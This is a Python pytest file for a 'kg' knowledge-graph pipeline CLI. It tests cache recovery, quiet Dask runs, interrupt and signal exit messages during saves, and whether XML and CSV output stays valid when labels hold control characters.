def test_cache_clear_empties_a_damaged_cache(kg, write, tmp_path: Path, monkeypatch) -> None:
    cache = tmp_path / "cache"
    write("cache/extractions.sqlite3", b"this is not a database, it is garbage " * 200)
    write("in/a.txt", "Title\nBody of the story.")
    monkeypatch.setenv("KG_CACHE_DIR", str(cache))  # de-duplication keeps its signatures there
    used = kg("ingest", tmp_path / "in", "--out", tmp_path / "out")
    assert used.code == 2 and "--no-cache" in used.stderr and "kg cache clear" in used.stderr
    cleared = kg("cache", "clear", "--cache", cache)
    assert cleared.code == 0, cleared.stderr
    assert "Removed the damaged cache" in cleared.stdout
    assert kg("ingest", tmp_path / "in", "--out", tmp_path / "out").code == 0
    assert kg("cache", "info", "--cache", cache).code == 0


@pytest.mark.model
def test_a_quiet_run_on_dask_prints_none_of_dasks_progress_and_serves_no_dashboard(
    write, tmp_path: Path
) -> None:
    write("in/a.txt", "A story\n\nIlse Varga met members of the Orvo Union in Tarnow.\n")
    environment = {k: v for k, v in os.environ.items() if k != "KG_LOG"}
    done = subprocess.run(
        [KG, "run", str(tmp_path / "in"), "--out", str(tmp_path / "o"), "--engine", "dask", "--no-cache", "-q"],
        capture_output=True, text=True, timeout=300, env=environment,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""  # no "INFO State start", no "dashboard at: http://127.0.0.1:8787/status"


def test_scheduler_needs_the_dask_engine(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody.")
    result = kg("run", tmp_path / "in", "--out", tmp_path / "o", "--scheduler", "tcp://127.0.0.1:9", "--model", "no_such_model_x")  # fmt: skip
    assert result.code == 2 and "--scheduler" in result.stderr and "--engine dask" in result.stderr


@pytest.mark.model
@pytest.mark.parametrize(
    ("sent", "code", "said"), [(signal.SIGINT, 130, "Ctrl-C"), (signal.SIGTERM, 143, "SIGTERM")]
)
def test_ctrl_c_or_sigterm_says_so_and_exits_128_plus_the_signal(
    write, tmp_path: Path, sent, code, said
) -> None:
    for n in range(40):  # different bodies (no duplicates), enough to be still extracting when Ctrl-C comes
        sentences = (
            f"Ilse Varga met {i} members of the Orvo Union in Tarnow on day {n}. " for i in range(200)
        )
        write(f"in/{n}.txt", f"Story {n}\n" + "".join(sentences))
    cache = tmp_path / "cache"
    process = subprocess.Popen(
        [KG, "run", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--cache", str(cache), "-q"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while not (cache / "extractions.sqlite3").exists() and time.monotonic() < deadline:
        time.sleep(0.05)  # the cache opens after ingest: kg is running by then
    assert process.poll() is None, "finished before it could be interrupted"
    process.send_signal(sent)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == code
    assert f"interrupted ({said})" in stderr
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_ctrl_c_a_library_swallowed_still_stops_the_run_before_it_saves(
    kg, write, tmp_path: Path, monkeypatch
) -> None:
    # numpy swallows a KeyboardInterrupt raised while it imports numpy.random lazily: the run goes on,
    # but the signal was recorded, and nothing may be saved
    from pipeline import api
    from pipeline.cli import _INTERRUPTED

    real_build = api.build

    def build_interrupted_on_the_way(*args, **kwargs):
        result = real_build(*args, **kwargs)
        _INTERRUPTED.append(2)  # what the handler recorded before its exception was lost
        return result

    monkeypatch.setattr(api, "build", build_interrupted_on_the_way)
    write("in/a.txt", "A story\n\nIlse Varga met members of the Orvo Union in Tarnow.\n")
    try:
        done = kg("run", tmp_path / "in", "--out", tmp_path / "out", "--no-cache", "-q")
    finally:
        _INTERRUPTED.clear()
    assert done.code == 130
    assert "interrupted" in done.stderr
    assert not (tmp_path / "out").exists()


def test_ctrl_c_says_what_out_holds_by_what_it_held_before(kg, write, tmp_path: Path, monkeypatch) -> None:
    from pipeline import api
    from pipeline.cli import _INTERRUPTED

    def interrupted(*args, **kwargs):
        _INTERRUPTED.append(2)
        raise KeyboardInterrupt

    monkeypatch.setattr(api, "build", interrupted)
    write("in/a.txt", "A story\n\nIlse Varga met members of the Orvo Union in Tarnow.\n")
    write("earlier/manifest.json", manifest_text({"kind": "run"}))
    (tmp_path / "empty").mkdir()
    said = {}
    try:
        for out in ("fresh", "earlier", "empty"):
            done = kg("run", tmp_path / "in", "--out", tmp_path / out, "--no-cache", "-q")
            _INTERRUPTED.clear()
            assert done.code == 130, done.stderr
            said[out] = done.stderr.strip()
    finally:
        _INTERRUPTED.clear()
    start = "interrupted (Ctrl-C) before the save: nothing was written; "
    assert said == {
        "fresh": start + f"{tmp_path / 'fresh'}/ was not made",
        "earlier": start + f"{tmp_path / 'earlier'}/ holds its earlier run",
        "empty": start + f"{tmp_path / 'empty'}/ holds what it held before",
    }
    assert not (tmp_path / "fresh").exists()


def test_ctrl_c_during_the_save_says_whether_its_files_were_put_in_place(
    kg, write, tmp_path: Path, monkeypatch
) -> None:
    from pipeline.cli import _INTERRUPTED
    from pipeline.io import folder, tables

    write("in/a.txt", "A story\n\nIlse Varga met members of the Orvo Union in Tarnow.\n")
    out = tmp_path / "out"
    assert kg("ingest", tmp_path / "in", "--out", out, "-q").code == 0
    earlier = (out / "manifest.json").read_bytes()
    write("in/b.txt", "Another story\n\nOrvo Union members left Tarnow for Karsk.\n")

    def interrupt(*args, **kwargs):
        _INTERRUPTED.append(2)
        raise KeyboardInterrupt

    said = {}
    try:
        with monkeypatch.context() as patch:  # while the files are written beside the earlier run's
            patch.setattr(tables, "write_articles", interrupt)
            said["writing"] = kg("ingest", tmp_path / "in", "--out", out, "-q")
            _INTERRUPTED.clear()
            said["fresh"] = kg("ingest", tmp_path / "in", "--out", tmp_path / "fresh", "-q")
            _INTERRUPTED.clear()
        assert (out / "manifest.json").read_bytes() == earlier and not (tmp_path / "fresh").exists()
        with monkeypatch.context() as patch:  # after the renames (Ctrl-C waits for them)
            patch.setattr(folder, "sync_folder", interrupt)
            said["committed"] = kg("ingest", tmp_path / "in", "--out", out, "-q")
    finally:
        _INTERRUPTED.clear()
    assert {name: done.code for name, done in said.items()} == {
        "writing": 130,
        "fresh": 130,
        "committed": 130,
    }
    during = "interrupted (Ctrl-C) during the save, before its files were put in place: nothing was written; "
    assert said["writing"].stderr.strip() == during + f"{out}/ holds its earlier run"
    assert said["fresh"].stderr.strip() == during + f"{tmp_path / 'fresh'}/ was not made"
    assert (
        said["committed"].stderr.strip()
        == f"interrupted (Ctrl-C) after the save: {out}/ holds the whole new run"
    )
    assert "b.txt" in (out / "articles.csv").read_text(encoding="utf-8")


def test_ctrl_c_in_a_command_that_makes_no_run_speaks_of_no_out(kg, tmp_path: Path, monkeypatch) -> None:
    from pipeline import diff as diff_module
    from pipeline.cli import _INTERRUPTED

    def interrupted(*args, **kwargs):
        _INTERRUPTED.append(2)
        raise KeyboardInterrupt

    monkeypatch.setattr(diff_module, "diff_runs", interrupted)
    try:
        done = kg("diff", tmp_path / "a", tmp_path / "b", "--out", tmp_path / "d.csv")
    finally:
        _INTERRUPTED.clear()
    assert (done.code, done.stderr.strip()) == (130, "interrupted (Ctrl-C)")


# --- what held up must keep holding -------------------------------------------------------------------


def test_graphml_and_gexf_stay_valid_xml_with_control_characters(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    graph = _tiny_graph()
    graph.nodes["person:ilse-varga"]["label"] = f"Ilse\x01 Varga {TERMINAL_ATTACK} \ufffe <&>"
    write_graph(graph, tmp_path)
    assert nx.read_graphml(tmp_path / "graph.graphml").nodes["person:ilse-varga"]["label"].startswith("Ilse")
    ET.parse(tmp_path / "graph.gexf")
    [row] = [r for r in csvfile.read_csv(tmp_path / "nodes.csv") if r["id"] == "person:ilse-varga"]
    assert row["label"] == graph.nodes["person:ilse-varga"]["label"]  # the CSV keeps text as it is
